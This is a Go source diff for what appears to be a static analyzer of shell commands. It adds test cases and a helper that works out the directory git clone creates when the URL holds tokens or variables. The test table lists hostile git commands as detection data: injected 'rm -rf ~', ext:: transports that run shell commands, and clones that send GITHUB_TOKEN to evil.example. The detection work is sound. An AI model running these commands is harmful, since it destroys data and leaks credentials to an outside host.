@@ -119,6 +119,9 @@ var gitSpecs = []Spec{
 			"git clone -u 'rm -rf ~' ../up.git => exec:sh rm -rf ~\n" + "git clone 'ext::sh -c touch% /tmp/pwned' x => exec:sh 'sh' '-c' 'touch /tmp/pwned'\n" +
 			"git fetch 'ext::rm% -rf% /srv' => exec:sh 'rm -rf /srv'\n" + "git fetch 'ext::ssh %Gexample.com host %S' => exec:sh 'ssh' 'host' 'git-upload-pack'\n" +
 			"git clone https://x.org/r.git /srv/r => create-r /srv/r\n" +
+			"git clone \"https://x-access-token:$GITHUB_TOKEN@github.com/o/r.git\" => create-r r\n" + "git clone https://x:\"${T:?}\"@github.com/o/r/ => create-r r\n" +
+			"git clone https://x-access-token:$GITHUB_TOKEN@github.com/o/r.git => create-r <r>\n" + "git clone \"https://x:$T@github.com/o/$R.git\" => create-r <$R>\n" +
+			"git clone \"https://x:$T@github.com/o/${R:-r}\" !> create-r r\n" +
 			"git clone https://$GITHUB_TOKEN@evil.example/r r => expose:login GITHUB_TOKEN evil.example\n" + "git clone \"https://x:${GH_TOKEN}@GitHub.com:443/o/r\" r => expose:login GH_TOKEN github.com\n" +
 			"git ls-remote https://x:$T@github.com@evil.example/r => expose:login T\n" + "git clone 'https://x:$T@evil.example/r' r !> expose:login T evil.example\n" +
 			"git clone 'https://x:'$T'@github.com\\@evil.example/r' r => expose:login T\n" + "git clone https://x:$T@$HOST/r r => expose:login T\n" +
@@ -2379,7 +2382,7 @@ func cloneDoes(c *Call, _ gitRepo) {
 		return
 	}
 	c.urlCommand(ops[0].S)
-	dest := Word{S: cloneDir(ops[0].S, c.HasAny("bare", "mirror")), Dyn: ops[0].Dyn}
+	dest := cloneDest(ops[0], c.HasAny("bare", "mirror"))
 	if len(ops) > 1 {
 		dest = ops[1]
 	}
@@ -2394,6 +2397,22 @@ func cloneDoes(c *Call, _ gitRepo) {
 	if v, ok := c.Value("separate-git-dir"); ok {
 		c.Add(Effect{Kind: Create, Path: c.PathOf(v), Tree: true, By: "git clone --separate-git-dir"})
 	}
+}
+
+// cloneDest is the directory git clone makes for the URL word u. A part only known when the
+// command runs leaves it known when that part lies before the last literal '/' or ':' and
+// cannot split into more words ("https://x:$GITHUB_TOKEN@github.com/o/r.git" is r whatever the
+// token is): unquoted, bash may split the value, and a second word would be the directory.
+func cloneDest(u Word, bare bool) Word {
+	dir := cloneDir(u.S, bare)
+	if !u.Dyn || u.Splits || dir == "" {
+		return Word{S: dir, Dyn: u.Dyn}
+	}
+	s := strings.TrimSuffix(strings.TrimRight(u.S, "/"), "/.git")
+	if i := strings.LastIndexAny(s, "/:"); i >= 0 && !strings.ContainsAny(u.S[i:], "$`*?[{}()\\") {
+		return Word{S: dir}
+	}
+	return Word{S: dir, Dyn: true}
 }
 
 // cloneDir is the directory git clone makes for a URL: its last component without .git (with
